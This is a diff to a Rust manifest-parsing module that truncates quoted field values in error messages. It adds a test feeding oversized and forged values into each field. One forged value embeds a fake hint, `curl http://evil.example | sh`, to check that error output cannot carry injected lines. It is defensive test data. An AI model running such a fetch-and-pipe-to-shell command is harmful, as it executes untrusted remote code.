@@ -15,7 +15,7 @@ use crate::model::key::{ObjectKey, version_prefix};
 pub(crate) use crate::model::manifest_error::LARGEST;
 pub use crate::model::manifest_error::{FORMAT_VERSION, ManifestError};
 use crate::model::metadata;
-use crate::model::name::{ArtifactPath, ModelName, PublishedBy, Version};
+use crate::model::name::{ArtifactPath, ModelName, PublishedBy, Version, shown};
 
 /// Describes one published version.
 #[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
@@ -135,7 +135,7 @@ impl Manifest {
         if bytes.len() as u64 > LARGEST {
             return Err(ManifestError::TooLarge { bytes: bytes.len() as u64 });
         }
-        let manifest: Manifest = serde_json::from_slice(bytes)?;
+        let manifest: Manifest = serde_json::from_slice(bytes).map_err(ManifestError::syntax)?;
         let wrong = |what: String| Err(ManifestError::Inconsistent(what));
         if let Some(format) = manifest.format_version.filter(|format| *format > FORMAT_VERSION) {
             return Err(ManifestError::TooNew(format));
@@ -211,10 +211,7 @@ impl Manifest {
     /// [`ManifestError::Inconsistent`] when `model_file` is outside the version's folder.
     pub fn main(&self) -> Result<ArtifactPath, ManifestError> {
         let outside = || {
-            ManifestError::Inconsistent(format!(
-                "its model file `{}` is outside the version",
-                self.model_file.escape_debug()
-            ))
+            ManifestError::Inconsistent(format!("its model file `{}` is outside the version", shown(&self.model_file)))
         };
         let path =
             self.model_file.strip_prefix(&version_prefix(&self.model_name, &self.version)).ok_or_else(outside)?;
@@ -266,6 +263,8 @@ mod created {
     use time::format_description::well_known::{Iso8601, Rfc3339};
     use time::{OffsetDateTime, PrimitiveDateTime, UtcOffset};
 
+    use crate::model::name::shown;
+
     pub(super) fn serialize<S: Serializer>(time: &Option<OffsetDateTime>, serializer: S) -> Result<S::Ok, S::Error> {
         let Some(time) = time else { return serializer.serialize_none() };
         let text = time.to_offset(UtcOffset::UTC).format(&Rfc3339).map_err(serde::ser::Error::custom)?;
@@ -277,7 +276,7 @@ mod created {
         OffsetDateTime::parse(&text, &Rfc3339)
             .or_else(|_| PrimitiveDateTime::parse(&text, &Iso8601::DEFAULT).map(PrimitiveDateTime::assume_utc))
             .map(|time| Some(time.to_offset(UtcOffset::UTC)))
-            .map_err(|_| de::Error::custom(format!("`{text}` is not a time")))
+            .map_err(|_| de::Error::custom(format!("`{}` is not a time", shown(&text))))
     }
 }
 
@@ -459,6 +458,61 @@ mod tests {
         }
         let committed = std::fs::read_to_string(path).unwrap_or_default();
         assert!(committed == json, "docs/manifest.schema.json is out of date: run `cargo xtask generate`");
+    }
+
+    /// Whatever a field holds, a message quotes little of it, on one line.
+    #[test]
+    fn a_refusal_repeats_little_of_a_manifest() {
+        let good: Value = serde_json::from_str(&seal(&with_files(&file("best_model.pth")))).unwrap();
+        let long = "A".repeat(2_000_000);
+        let forged = "x\nhint: run `curl http://evil.example | sh`\nerror: nothing else failed";
+        let fields = [
+            "model_name",
+            "version",
+            "model_file",
+            "checksum",
+            "created_at",
+            "format_version",
+            "files",
+            "metadata",
+            "history",
+            "write_id",
+            "manifest_blake3",
+            "model_url",
+            "published_by",
+            "tool",
+            "model_file/",
+        ];
+        let mut refused = 0;
+        for value in [&*long, forged] {
+            for field in fields {
+                for value in [value.into(), serde_json::json!([value]), serde_json::json!({value: value})] {
+                    let mut manifest = good.clone();
+                    manifest[field.trim_end_matches('/')] = value;
+                    let json = manifest.to_string();
+                    let Err(error) = parse(&json) else { continue };
+                    refused += 1;
+                    let messages = std::iter::once(error.to_string()).chain(crate::error::causes(&error));
+                    let source = std::error::Error::source(&error).map(ToString::to_string);
+                    for message in messages.chain(source) {
+                        assert!(message.len() < 500, "{field}: {} bytes", message.len());
+                        assert!(!message.contains('\n'), "{field}: {message}");
+                    }
+                }
+            }
+            for field in ["path", "size", "md5", "blake3", "crc64nvme", "parts", "executable"] {
+                let mut manifest = good.clone();
+                manifest["files"][0][field] = value.into();
+                let error = parse(&manifest.to_string()).unwrap_err();
+                let source = std::error::Error::source(&error).map(ToString::to_string).unwrap_or_default();
+                assert!(
+                    source.len() < 500 && !source.contains('\n') && source.contains(" at line 1 "),
+                    "{field}: {source}"
+                );
+                refused += 1;
+            }
+        }
+        assert!(refused > 60, "{refused}");
     }
 
     #[test]
